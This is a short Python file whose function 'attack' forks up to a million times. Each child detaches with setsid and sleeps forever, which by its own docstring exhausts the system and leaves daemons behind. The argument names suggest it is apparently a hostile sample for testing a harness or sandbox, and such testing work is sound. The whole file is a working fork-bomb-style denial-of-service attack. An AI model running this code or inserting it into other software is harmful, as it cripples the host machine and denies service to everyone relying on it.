"""Forks until nothing is left, and leaves a daemon behind."""

import os
import time


def attack(number, honest, args, kwargs):
    for _ in range(10**6):
        if os.fork() == 0:
            os.setsid()
            while True:
                time.sleep(1)
